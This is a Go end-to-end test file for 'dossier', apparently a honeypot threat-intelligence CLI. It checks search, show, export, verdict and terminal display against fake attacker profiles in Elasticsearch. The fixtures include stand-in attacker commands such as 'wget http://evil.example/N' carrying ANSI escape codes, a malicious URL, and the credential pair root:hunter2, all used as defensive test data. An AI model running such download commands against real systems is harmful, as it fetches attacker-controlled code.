package main

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"dossier/testbed/e2e"
	"dossier/testbed/esnode"
)

// Three attackers: one who did much, one who did little, one who says that he
// is harmless.
const (
	busy, quiet, harmless = "9.9.9.9", "9.9.9.8", "9.9.9.7"
	campaignKey           = "payload:00112233445566778899aabbccddeeff"
)

func attackers() map[string]string {
	ago := func(d time.Duration) string { return time.Now().Add(-d).UTC().Format("2006-01-02T15:04:05.000000Z") }
	var commands []string
	for n := range 30 {
		commands = append(commands, fmt.Sprintf(`{"timestamp":%q,"service":"ssh","decky":"d","command":"wget http://evil.example/%d\u001b[31m"}`, ago(time.Hour), n))
	}
	head := func(ip, risk, level, class string, seen time.Duration) string {
		return fmt.Sprintf(`{"ip":%q,"uuid":"b8614b8a-4d60-57a3-b019-01491ad261af","scope":"external","first_seen":%q,"last_seen":%q,"risk":{"score":%s,"level":%q,"stage":"acting","confidence":"High","half_life_d":90},"classification":%q,`+
			`"threat":{"technique":{"id":["T1105"],"name":["Ingress Tool Transfer"]},"indicator":{"description":"%[1]s did it","marking":{"tlp":"AMBER"}}},`, ip, ago(seen+time.Hour), ago(seen), risk, level, class)
	}
	return map[string]string{
		busy: head(busy, "95", "Critical", "malicious", 24*time.Hour) + `"event_count":50,"services":["ssh"],"deckies":["web-1"],"behavior":{"class":"interactive","tools":["nmap"]},` +
			`"commands":[` + strings.Join(commands, ",") + `],"command":{"line":["wget http://evil.example/1"]},"credential":{"username":["root"],"password":["hunter2"],"pair":["root:hunter2"]},` +
			`"fingerprint":{"hassh":["b12d2871a1189eff20364cf5333619ee"]},"artifact":{"sha256":["aa11"],"url":["http://evil.example/x"]},"campaign":{"keys":["` + campaignKey + `"]},` +
			`"port":{"name":["tcp/2222"]},"country_code":"DE","country_name":"Germany","network_type":"vpn","network_type_source":"MISP vpn-ipv4 2025-12-23","state":"AAAA"}`,
		quiet: strings.ReplaceAll(head(quiet, "30", "Low", "suspicious", 10*24*time.Hour), `["T1105"]`, `["T1046"]`) + `"event_count":900,"services":["http"],"deckies":["web-2"],"behavior":{"class":"scanning"}}`,
		harmless: strings.ReplaceAll(head(harmless, "12", "Unknown", "benign", 12*24*time.Hour), `["T1105"]`, `["T1046"]`) +
			`"classification_basis":"announced","event_count":3,"services":["http"]}`,
	}
}

// know writes the three attackers.
func know(t *testing.T, node *esnode.Node, prefix string) {
	t.Helper()
	// Whom other rows brought.
	node.Must(t, "POST", "/"+prefix+"-attackers/_refresh", nil)
	node.Must(t, "POST", "/"+prefix+"-attackers/_delete_by_query?refresh=true&conflicts=proceed",
		`{"query":{"bool":{"must_not":{"ids":{"values":["9.9.9.8","9.9.9.9"]}}}}}`)
	for id, doc := range attackers() {
		node.Must(t, "PUT", "/"+prefix+"-attackers/_doc/"+id+"?refresh=true", doc)
	}
}

// reads runs the command with the flag on the real node.
func (u use) reads(value string, args ...string) (out, errs string) {
	u.Helper()
	know(u.T, u.w.node, u.w.prefix)
	out, errs, status := u.run(value, u.w.real(args...)...)
	if status != 0 {
		u.Fatalf("status %d, %s\n%s", status, errs, out)
	}
	return out, errs
}

// finds wants the busy one alone to be found.
func finds(value string) func(u use) {
	return func(u use) {
		u.Helper()
		out, _ := u.reads(value)
		if !strings.Contains(out, busy) || strings.Contains(out, quiet) {
			u.Errorf("want %s alone:\n%s", busy, out)
		}
	}
}

// whoever wants those who are chosen, and no other.
func whoever(value string, args []string, who ...string) func(u use) {
	return func(u use) {
		u.Helper()
		out, _ := u.reads(value, args...)
		for id := range attackers() {
			if want := slices.Contains(who, id); strings.Contains(out, id) != want {
				u.Errorf("%s is there: %v, want %v\n%.600s", id, !want, want, out)
			}
		}
	}
}

func searchFor(value string) row {
	return row{"a\x01", `got "a\\x01", want text as it is shown`, finds(value)}
}

// onTerminal runs dossier top in a terminal and wants texts on its screen.
func onTerminal(value string, want ...string) func(u use) {
	return func(u use) {
		u.Helper()
		if _, err := exec.LookPath("tmux"); err != nil {
			u.Skip("SKIP: no tmux: the flags of dossier top aren't tried")
		}
		know(u.T, u.w.node, u.w.prefix)
		dir, err := os.MkdirTemp("", "top")
		if err != nil {
			u.Fatal(err)
		}
		defer os.RemoveAll(dir)
		tmux := func(args ...string) string {
			out, err := exec.CommandContext(u.Context(), "tmux", append([]string{"-f", "/dev/null", "-S", filepath.Join(dir, "s")}, args...)...).CombinedOutput()
			if err != nil {
				u.Fatalf("tmux: %v\n%s", err, out)
			}
			return string(out)
		}
		command := append([]string{"env", "LC_ALL=C.UTF-8", program, "top", "--" + u.flag + "=" + value}, u.w.real()...)
		tmux("-u", "new-session", "-d", "-x", "150", "-y", "12", strings.Join(command, " ")+"; sleep 60")
		defer tmux("kill-server")
		screen := ""
		for end := time.Now().Add(20 * time.Second); time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
			screen = tmux("capture-pane", "-p")
			if !slices.ContainsFunc(want, func(s string) bool { return !strings.Contains(screen, s) }) {
				return
			}
		}
		u.Errorf("no %q on the screen:\n%s", want, screen)
	}
}

var toFile = row{"/nowhere/x", "--to: there is no folder /nowhere", func(u use) {
	file := filepath.Join(u.TempDir(), "file")
	var args []string
	if u.command == "report" {
		args = []string{busy}
	}
	if out, _ := u.reads(file, args...); out != "" {
		u.Errorf("on standard output too: %.100s", out)
	}
	b, err := os.ReadFile(file)
	if err != nil {
		u.Fatal(err)
	}
	contains(u.T, string(b), busy)
}}

// readerRows are the flags of the commands that read.
var readerRows = map[string]row{
	"show --all": {"maybe", `"maybe" for "-a, --all"`, func(u use) {
		out, _ := u.reads("true", busy)
		if n := strings.Count(out, `wget http://evil.example/`); n != 30 || strings.Contains(out, "\x1b") {
			u.Errorf("%d commands:\n%s", n, out)
		}
		out, _ = u.reads("false", busy)
		if n := strings.Count(out, `wget http://evil.example/`); n != 20 {
			u.Errorf("%d commands without", n)
		}
	}},
	"show --output": {"xml", "want one of table, json, ndjson, yaml", func(u use) {
		out, _ := u.reads("yaml", busy)
		contains(u.T, out, "ip: \"9.9.9.9\"\n", "  score: 95\n", `command: "wget http://evil.example/0\\x1b[31m"`)
		out, _ = u.reads("ndjson", busy)
		var doc map[string]any
		if err := json.Unmarshal([]byte(out), &doc); err != nil || strings.Count(out, "\n") != 1 || doc["ip"] != busy || doc["state"] != nil {
			u.Errorf("%v: %.300s", err, out)
		}
		out, _ = u.reads("json", busy)
		contains(u.T, out, "  \"ip\": \"9.9.9.9\",\n")
	}},

	"search --command":      searchFor("WGET http*"),
	"search --credential":   {"root", `got "root", want USER:SECRET`, finds(":hunter2")},
	"search --fingerprint":  searchFor("b12d2871a1189eff20364cf5333619ee"),
	"search --file":         searchFor("http://evil*"),
	"search --campaign":     searchFor(busy),
	"search --technique":    {"x", `--technique: got "x"`, finds("T1105")},
	"search --port":         {"tcp", `--port: got "tcp"`, finds("2222")},
	"search --country":      {"Germany", `--country: got "Germany"`, finds("de")},
	"search --network":      {"x", `--network: got "x"`, finds("9.9.9.9/32")},
	"search --network-type": searchFor("VPN"),
	"search --service":      searchFor("ssh"),
	"search --decky":        searchFor("web-1"),
	"search --tool":         searchFor("nmap"),
	"search --sort": {"size", "want one of risk, activity, newest, address", func(u use) {
		out, _ := u.reads("activity")
		if strings.Index(out, quiet) > strings.Index(out, busy) {
			u.Errorf("not by activity:\n%s", out)
		}
	}},
	"search --limit": {"-1", "--limit: got -1", func(u use) {
		out, errs := u.reads("1")
		if strings.Contains(out, quiet) || !strings.Contains(out, busy) {
			u.Errorf("not one:\n%s", out)
		}
		contains(u.T, errs, "the first 1; --limit 0 shows all")
	}},
	"search --output": {"xml", "want one of table, json, ndjson, yaml", func(u use) {
		out, _ := u.reads("json", "--service=ssh", "--decky=web-1")
		var docs []map[string]any
		if err := json.Unmarshal([]byte(out), &docs); err != nil || len(docs) != 1 {
			u.Errorf("%v: %.200s", err, out)
		}
		out, _ = u.reads("json", "--service=none")
		if out != "[]\n" {
			u.Errorf("nobody is %q", out)
		}
	}},

	"export --form": {"xml", `--form: got form "xml"`, func(u use) {
		out, _ := u.reads("blocklist", "--min-risk=50")
		contains(u.T, out, "\n9.9.9.9\n")
	}},
	"export --to": toFile,
	"export --diff": {"maybe", `"maybe" for "--diff"`, func(u use) {
		file := filepath.Join(u.TempDir(), "feed")
		if err := os.WriteFile(file, []byte("9.9.9.1\n"), 0o600); err != nil {
			u.Fatal(err)
		}
		out, _ := u.reads("true", "--to", file, "--form=blocklist", "--min-risk=50")
		if out != "+ 9.9.9.9\n- 9.9.9.1\n" {
			u.Errorf("%q", out)
		}
	}},
	"export --expires":        {"soon", `--expires: got "soon"`, whoever("5d", []string{"--form=blocklist"}, busy)},
	"export --no-benign":      {"maybe", `"maybe" for "--no-benign"`, whoever("true", nil, busy, quiet)},
	"export --exclude-nets":   option("exclude_nets", "10/8", whoever("9.9.9.8/31", nil, harmless)),
	"export --internal-nets":  option("internal_nets", "10/8", whoever("9.9.9.8/31", nil, harmless)),
	"export --tlp":            option("tlp", "PURPLE", func(u use) { out, _ := u.reads("RED", "--form=stix"); contains(u.T, out, "TLP:RED") }),
	"export --min-risk":       {"101", "--min-risk: got 101", whoever("50", nil, busy)},
	"export --since":          {"soon", "want how long ago", whoever("5d", nil, busy)},
	"export --classification": {"evil", `--classification: got "evil"`, whoever("malicious, benign", nil, busy, harmless)},
	"search --min-risk":       {"NaN", "--min-risk: got NaN", whoever("50", nil, busy)},
	"search --since":          {"0d", "want how long ago", whoever("11d", nil, busy, quiet)},
	"search --classification": {"evil", `--classification: got "evil"`, whoever("suspicious", nil, quiet)},

	"note --author": {strings.Repeat("x", 200), "--author: got 200 bytes", func(u use) {
		out, _ := u.reads("anna", quiet, "seen before")
		contains(u.T, out, quiet+": noted, by anna")
	}},
	"verdict --author": {strings.Repeat("x", 200), "--author: got 200 bytes", func(u use) {
		out, _ := u.reads("anna", quiet, "none")
		contains(u.T, out, quiet+": noted, by anna")
	}},
	"verdict --note": {strings.Repeat("x", 5000), "got a note of 5000 bytes", func(u use) {
		u.reads("our scanner", quiet, "none")
		out, _, _ := dossier(u.T, nil, append([]string{"show", quiet}, u.w.real()...)...)
		contains(u.T, out, "our scanner")
	}},

	"report --to": toFile,
	"report --since": {"soon", "want how long ago", func(u use) {
		out, _ := u.reads("5d")
		contains(u.T, out, "1 attackers with 50 events", busy)
	}},

	"top --min-risk":       {"-1", "--min-risk: got -1", onTerminal("50", "1 attackers by risk", busy)},
	"top --since":          {"x", "want how long ago", onTerminal("5d", "1 attackers by risk", busy)},
	"top --classification": {"x", `--classification: got "x"`, onTerminal("suspicious", "1 attackers by risk", quiet)},
	"top --sort":           {"x", "want one of risk", onTerminal("newest", "attackers by newest", busy)},
	"top --every":          {"1ms", "--every: got 1ms, want at least 1s", onTerminal("2s", busy, `$ wget`)},
}

// TestReading: exit statuses, and what is said where nobody is there.
func TestReading(t *testing.T) {
	node := esnode.Shared(t)
	prefix := e2e.Prefix(t)
	link := []string{"--es-hosts", node.URL, "--index-prefix", prefix}
	if out, errs, status := dossier(t, nil, append([]string{"setup", "--months=1"}, link...)...); status != 0 {
		t.Fatal(out, errs)
	}
	know(t, node, prefix)
	for _, c := range []struct {
		args      []string
		status    int
		out, errs string
	}{
		{[]string{"show", busy}, 0, "risk 95 Critical, malicious", ""},
		{[]string{"show", "::ffff:9.9.9.9"}, 0, "risk 95 Critical, malicious", ""},
		{[]string{"show", "203.0.113.1"}, 4, "", "no profile of 203.0.113.1"},
		{[]string{"show", "example.com"}, 1, "", `got "example.com", want an address`},
		{[]string{"show"}, 1, "", "got 0 arguments"},
		{[]string{"search", "--service", "gopher"}, 0, "", "nobody"},
		{[]string{"report", "203.0.113.1"}, 4, "", "no profile of 203.0.113.1"},
		{[]string{"export", "--diff"}, 1, "", "say --to FILE"},
		{[]string{"export", "--no-benign", "--classification=benign"}, 1, "", "asked for and left out"},
		{[]string{"note", quiet, "an \x1b[31modd", "one"}, 0, quiet + ": noted, by ", ""},
		{[]string{"note", quiet, "--author=", "x"}, 1, "", "got nothing"},
		{[]string{"note", "203.0.113.1", "x"}, 4, "", "no profile"},
		{[]string{"verdict", quiet, "evil"}, 1, "", `got verdict "evil", want one of benign, suspicious, malicious, or none`},
		{[]string{"verdict", quiet, "malicious", "--author=anna", "--note=came back"}, 0, "by anna", ""},
		{[]string{"show", quiet}, 0, "risk 30 Low, malicious\n" + quiet + " did it\nverdict: malicious, by anna on ", ""},
		{[]string{"show", quiet}, 0, `an \x1b[31modd one`, ""},
		{[]string{"show", "-o", "json", quiet}, 0, `"author": "anna"`, ""},
		{[]string{"search", "--classification=malicious"}, 0, quiet, ""},
		{[]string{"export", "--form=blocklist", "--min-risk=90"}, 0, "\n" + quiet + "\n", "2 written"},
		{[]string{"verdict", busy, "benign"}, 0, "noted", ""},
		{[]string{"export", "--form=blocklist", "--min-risk=90"}, 0, "\n" + quiet + "\n", "1 written; left out: 1 benign"},
		{[]string{"verdict", busy, "none"}, 0, "noted", ""},
		{[]string{"verdict", quiet, "none"}, 0, "noted", ""},
		{[]string{"export", "--form=blocklist", "--min-risk=90"}, 0, "\n" + busy + "\n", "1 written"},
		{[]string{"top"}, 1, "", "top wants a terminal"},
	} {
		out, errs, status := dossier(t, []string{"NO_COLOR="}, append(c.args, link...)...)
		if status != c.status || !strings.Contains(out, c.out) || !strings.Contains(errs, c.errs) || c.out == "" && out != "" || strings.Contains(out+errs, "\x1b") {
			t.Errorf("%q: status %d, %q, %q", c.args, status, out, errs)
		}
	}
}
